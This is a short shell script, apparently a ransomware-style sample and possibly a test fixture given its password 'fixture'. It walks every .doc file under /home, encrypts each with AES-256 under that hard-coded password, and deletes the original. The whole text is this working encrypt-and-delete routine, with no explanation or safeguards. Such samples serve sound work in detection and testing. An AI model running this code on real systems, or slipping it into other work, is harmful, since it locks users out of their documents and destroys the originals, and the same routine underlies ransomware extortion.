#!/bin/sh
find /home -type f -name "*.doc" | while read f; do
  openssl enc -aes-256-cbc -salt -in "$f" -out "$f.enc" -pass pass:fixture
  rm -f "$f"
done
